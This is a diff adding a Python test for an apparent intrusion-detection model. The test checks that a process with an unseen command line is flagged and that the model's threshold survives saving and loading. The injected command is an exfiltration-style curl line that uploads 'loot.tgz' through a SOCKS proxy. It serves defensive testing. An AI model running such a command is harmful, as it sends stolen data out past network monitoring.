@@ -242,6 +242,39 @@ def _tree():
     return g, np.asarray(g.nodes["id"].to_pylist(), dtype=object)
 
 
+def test_known_program_with_unseen_arguments_alerts_after_new_programs(fitted, tmp_path):
+    # validation's commands are all seen in training: the threshold is the floor
+    assert fitted.args_threshold_ == 0.5
+    g = run_graph(100)[0]
+    cmds = g.nodes["cmdline"].to_pylist()
+    i = next(k for k, c in enumerate(cmds) if c and c.startswith("curl"))
+    cmds[i] = "curl -k -x socks5h://qzv:9050 -T loot.tgz"
+    odd = g.with_node_column("cmdline", cmds)
+    target = g.nodes["id"][i].as_py()
+    r = fitted.score(odd)
+    ids = np.asarray(r.graph.nodes["id"].to_pylist(), dtype=object)
+    j = int(np.flatnonzero(ids == target)[0])
+    assert r.novel_args[j] and r.alert[j] and r.arguments[j] > 0.5
+    assert r.novel_args.sum() == 1  # the other processes' arguments were all seen
+    frame = r.alerts_frame()
+    row = frame[frame["node_id"] == target].iloc[0]
+    assert row["reason"] == "arguments"
+    reasons = frame["reason"].tolist()
+    assert reasons.index("arguments") == sum(x == "unseen" for x in reasons)
+    assert not fitted.score(g).novel_args.any()
+    # saved and loaded with its threshold; a model from before the rule scores without it
+    fitted.save(tmp_path / "m")
+    back = AptDetector.load(tmp_path / "m")
+    assert back.novel_args and back.args_threshold_ == fitted.args_threshold_
+    assert np.array_equal(back.score(odd).novel_args, r.novel_args)
+    import json
+    info = json.loads((tmp_path / "m/model.json").read_text())
+    del info["args_threshold"], info["params"]["novel_args"]
+    (tmp_path / "m/model.json").write_text(json.dumps(info))
+    old = AptDetector.load(tmp_path / "m")
+    assert not old.novel_args and not old.score(odd).novel_args.any()
+
+
 def test_expand_alerts_follows_provenance():
     g, ids = _tree()
 
